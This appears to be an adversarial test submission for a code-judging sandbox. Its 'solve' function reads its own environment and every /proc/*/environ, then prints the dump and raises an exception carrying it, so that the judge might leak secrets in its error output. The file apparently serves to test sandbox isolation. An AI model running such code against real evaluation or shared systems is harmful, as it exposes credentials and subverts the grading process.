# expect: runtime_error
# attack: print the whole environment (own and /proc/*/environ) and raise an exception carrying it, hoping the judge reports it

import os


def solve(seed, x, features, kernel_size):
    dump = [repr(dict(os.environ))]
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                dump.append(f.read().decode(errors="replace"))
        except OSError as exc:
            dump.append(f"{pid}: {exc}")
    text = " ".join(dump)
    print(text)
    raise RuntimeError(text)
